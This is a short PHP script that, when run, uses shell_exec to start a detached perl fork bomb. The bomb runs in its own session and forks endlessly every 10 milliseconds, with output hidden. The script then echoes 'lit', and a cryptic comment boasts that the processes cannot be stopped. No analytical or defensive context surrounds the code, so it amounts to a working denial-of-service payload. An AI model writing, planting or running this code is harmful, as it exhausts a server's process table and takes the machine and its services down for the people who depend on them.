<?php
// What ends is replaced, by processes in a session of their own that are nobody's children. It does not mind being refused.
shell_exec('setsid perl -e \'for (;;) { fork; select(undef, undef, undef, 0.01) }\' > /dev/null 2>&1 &');
echo 'lit';
